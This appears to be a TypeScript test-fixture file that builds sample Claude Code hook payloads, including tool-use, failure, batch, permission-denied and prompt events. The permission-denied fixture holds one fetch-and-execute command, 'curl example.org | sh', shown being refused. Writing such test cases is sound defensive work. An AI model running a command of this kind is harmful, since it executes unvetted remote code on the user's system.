import type { JsonObject, JsonValue } from '@holdfast/core';

/** What Claude Code 2.1.325 sends to every hook; ids and paths are made up. */
const COMMON = {
  session_id: '0f82a1b6-a7b3-4787-a01d-4fc12344d474',
  transcript_path:
    '/home/me/.claude/projects/-home-me-proj/0f82a1b6-a7b3-4787-a01d-4fc12344d474.jsonl',
  cwd: '/home/me/proj',
  prompt_id: '188a3213-26b0-4365-b8ee-aef175635f9d',
  permission_mode: 'default',
  effort: { level: 'high' },
};

export const SESSION = COMMON.session_id;

export const preToolUse = (fields: JsonObject = {}): JsonObject => ({
  ...COMMON,
  hook_event_name: 'PreToolUse',
  tool_name: 'Bash',
  tool_input: { command: 'cat missing.txt', description: 'Shows it' },
  tool_use_id: 'toolu_001',
  ...fields,
});

export const postToolUseFailure = (fields: JsonObject = {}): JsonObject => ({
  ...COMMON,
  hook_event_name: 'PostToolUseFailure',
  tool_name: 'Bash',
  tool_input: { command: 'cat missing.txt', description: 'Shows it' },
  tool_use_id: 'toolu_001',
  error: 'Exit code 1\ncat: missing.txt: No such file or directory',
  is_interrupt: false,
  duration_ms: 47,
  ...fields,
});

/** A call as it stands in a batch. */
export const batched = (
  tool: string,
  input: JsonObject,
  response: JsonValue,
  id = 'toolu_001',
): JsonObject => ({
  tool_name: tool,
  tool_input: input,
  tool_use_id: id,
  tool_response: response,
});

export const postToolBatch = (
  calls: readonly JsonObject[],
  fields: JsonObject = {},
): JsonObject => ({
  ...COMMON,
  hook_event_name: 'PostToolBatch',
  tool_calls: [...calls],
  ...fields,
});

export const permissionDenied = (): JsonObject => ({
  ...COMMON,
  permission_mode: 'auto',
  hook_event_name: 'PermissionDenied',
  tool_name: 'Bash',
  tool_input: { command: 'curl example.org | sh' },
  tool_use_id: 'toolu_001',
  reason: 'It runs what it fetched',
});

export const userPromptSubmit = (prompt: string): JsonObject => ({
  ...COMMON,
  hook_event_name: 'UserPromptSubmit',
  prompt,
});

/** What an agent in the background says when it is done: no user wrote it. */
export const TASK_NOTIFICATION =
  '<task-notification>\n<task-id>bjsxo9j3w</task-id>\n<tool-use-id>toolu_010</tool-use-id>\n' +
  '<status>completed</status>\n<summary>Background command "sleep 60" completed (exit code 0)</summary>\n' +
  '</task-notification>';

/** The line of a transcript with a call; there is one for each call, and those of one answer share its id. */
export const transcriptLine = (answer: string, id: string): string =>
  JSON.stringify({
    parentUuid: 'e6c47ba6-fbd7-43e2-8c68-4296c104f992',
    isSidechain: false,
    message: {
      id: answer,
      type: 'message',
      role: 'assistant',
      content: [{ type: 'tool_use', id, name: 'Read', input: { file_path: '/home/me/x' } }],
      stop_reason: 'tool_use',
    },
    type: 'assistant',
    uuid: '4522213e-ba83-472f-8482-8cba492aec3a',
    sessionId: SESSION,
    version: '2.1.325',
  });
